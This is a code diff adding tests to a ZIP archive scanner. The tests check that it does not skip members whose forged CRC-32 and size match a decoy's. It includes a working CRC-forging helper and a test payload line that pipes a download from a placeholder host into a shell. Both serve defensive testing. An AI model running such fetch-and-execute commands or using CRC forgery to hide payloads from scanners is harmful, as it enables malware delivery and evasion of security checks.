@@ -263,3 +263,67 @@ def test_damaged_zip_without_the_7zip_program_is_unreadable(monkeypatch: pytest.
     findings, items = run(data[: data.find(b"PK\x01\x02")])
     assert codes(findings) == ["archive.parse_error", "archive.unreadable"] and items == []
     assert "not installed" in findings[1].detail
+
+
+def forged_crc_suffix(data: bytes, target: int) -> bytes:
+    """Four bytes that make ``crc32(data + suffix) == target`` (CRC-32 is affine in the last 32 bits: solved
+    over GF(2)) -- how a header's CRC is made to lie about different content without a CRC error."""
+    import zlib
+
+    base = zlib.crc32(data + bytes(4))
+    columns = [zlib.crc32(data + (1 << bit).to_bytes(4, "little")) ^ base for bit in range(32)]
+    # Gaussian elimination: rows (column vector, the suffix bit it stands for)
+    rows = [(col, 1 << bit) for bit, col in enumerate(columns)]
+    want, solution = target ^ base, 0
+    for pivot in range(32):
+        mask = 1 << pivot
+        at = next(i for i in range(pivot, 32) if rows[i][0] & mask)
+        rows[pivot], rows[at] = rows[at], rows[pivot]
+        for i in range(32):
+            if i != pivot and rows[i][0] & mask:
+                rows[i] = (rows[i][0] ^ rows[pivot][0], rows[i][1] ^ rows[pivot][1])
+    for pivot in range(32):
+        if want & (1 << pivot):
+            solution ^= rows[pivot][1]
+    return solution.to_bytes(4, "little")
+
+
+def _stored_zip(members: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_STORED) as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def test_only_members_whose_declared_crc_and_size_collide_have_their_bytes_hashed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from coinguard.unpack import zip_archive as module
+
+    hashed: list[int] = []
+    real = module.stored_bytes_digest
+
+    def counting(data: bytes, start: int, length: int) -> bytes | None:
+        hashed.append(length)
+        return real(data, start, length)
+
+    monkeypatch.setattr(module, "stored_bytes_digest", counting)
+    same = b"the same bytes, twice " * 30
+    data = zip_archive({"a.txt": b"first text", "b.txt": b"second text", "c.bin": bytes(range(256)),
+                        "copy1.txt": same, "copy2.txt": same})
+    _findings, items = run(data)
+    assert sorted(i.name for i in items) == ["a.txt", "b.txt", "c.bin", "copy1.txt"]  # the copy once
+    assert len(hashed) == 2  # the two that declare one CRC and size, not the three unique ones
+
+
+def test_a_header_whose_crc_and_size_lie_about_different_bytes_is_read_too() -> None:
+    import zlib
+
+    decoy = b"Quarterly figures attached, nothing to see here at all.".ljust(64, b".")
+    payload = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".ljust(60, b"#")
+    payload += forged_crc_suffix(payload, zlib.crc32(decoy))
+    assert zlib.crc32(payload) == zlib.crc32(decoy) and len(payload) == len(decoy) and payload != decoy
+    findings, items = run(_stored_zip({"report.txt": decoy, "notes.txt": payload}))
+    assert findings == []
+    assert sorted(i.data for i in items) == sorted([decoy, payload])  # not skipped as the decoy's copy
